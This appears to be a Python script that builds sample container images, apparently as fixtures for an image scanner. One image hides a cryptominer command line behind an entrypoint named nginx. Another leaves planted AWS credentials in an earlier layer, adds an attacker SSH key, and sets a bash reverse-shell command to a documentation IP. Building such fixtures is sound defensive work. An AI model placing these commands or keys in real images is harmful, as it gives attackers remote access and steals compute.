#!/usr/bin/env python3
"""Builds the bundled sample images with umoci and skopeo:
samples/build.py OUTDIR  ->  OUTDIR/oci (an OCI layout with several tags) and
OUTDIR/<tag>.tar (docker-archive copies). Each sample is defined below from
plain files; none is a real piece of malware: the miner is a shell script that
carries a miner's command line and an XMRig-style config, the keys are made up."""
import os
import shutil
import subprocess
import sys


def run(*cmd):
    subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL)


def image(layout, tag, layers, config):
    bundle = os.path.join(os.path.dirname(layout), "bundle-" + tag)
    run("umoci", "new", "--image", "%s:%s" % (layout, tag))
    for files in layers:
        shutil.rmtree(bundle, ignore_errors=True)
        run("umoci", "unpack", "--rootless", "--image", "%s:%s" % (layout, tag), bundle)
        root = os.path.join(bundle, "rootfs")
        for path, data in files.items():
            full = os.path.join(root, path)
            if data is None:
                os.unlink(full)
                continue
            os.makedirs(os.path.dirname(full), exist_ok=True)
            with open(full, "wb") as f:
                f.write(data.encode())
            if path.startswith("usr/local/bin/"):
                os.chmod(full, 0o755)
        run("umoci", "repack", "--image", "%s:%s" % (layout, tag), bundle)
    shutil.rmtree(bundle, ignore_errors=True)
    args = []
    for k, vs in config.items():
        for v in vs:
            args += ["--config.%s" % k, v]
    run("umoci", "config", "--image", "%s:%s" % (layout, tag), *args)


SAMPLES = {
    "clean-app": (
        [{"etc/os-release": 'PRETTY_NAME="Sample Linux"\nID=sample\n',
          "app/server.py": "import http.server\nhttp.server.test(port=8080)\n",
          "app/README.md": "Run with `python3 server.py`. Docs: https://docs.python.org/3/\n"}],
        {"cmd": ["python3", "/app/server.py"], "env": ["PATH=/usr/local/bin:/usr/bin:/bin"],
         "exposedports": ["8080/tcp"]}),
    "liferay-miner": (
        [{"etc/os-release": 'PRETTY_NAME="Sample Linux"\n'},
         {"usr/local/bin/nginx": "#!/bin/sh\n# XMRig 6.21.0 stand-in\nexec minerd -a cryptonight "
                                 "-o stratum+tcp://pool.minexmr.com:45560 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x\n",
          "root/.config/config.json": '{"autosave": true, "donate-level": 1, "cpu": {"enabled": true},'
                                      ' "pools": [{"url": "pool.supportxmr.com:443", "user": '
                                      '"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",'
                                      ' "tls": true}]}\n'}],
        {"entrypoint": ["/usr/local/bin/nginx"]}),
    "leaky-build": (
        [{"root/.aws/credentials": "[default]\naws_access_key_id = AKIAZ5Q4XN7W3BF2XVUP\n"
                                   "aws_secret_access_key = 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\n"},
         {"root/.aws/credentials": None,
          "root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHbDkDFUWRaPMvNVXXhGeo5lR0QfBlNjuFsFQyJcy2X0 backdoor@attacker\n"}],
        {"cmd": ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]}),
}


def main():
    out = sys.argv[1]
    shutil.rmtree(out, ignore_errors=True)
    os.makedirs(out)
    layout = os.path.join(out, "oci")
    run("umoci", "init", "--layout", layout)
    for tag, (layers, config) in SAMPLES.items():
        image(layout, tag, layers, config)
        run("skopeo", "copy", "-q", "--insecure-policy", "oci:%s:%s" % (layout, tag),
            "docker-archive:%s/%s.tar:samples/%s:latest" % (out, tag, tag))
    print("\n".join(SAMPLES))


if __name__ == "__main__":
    main()
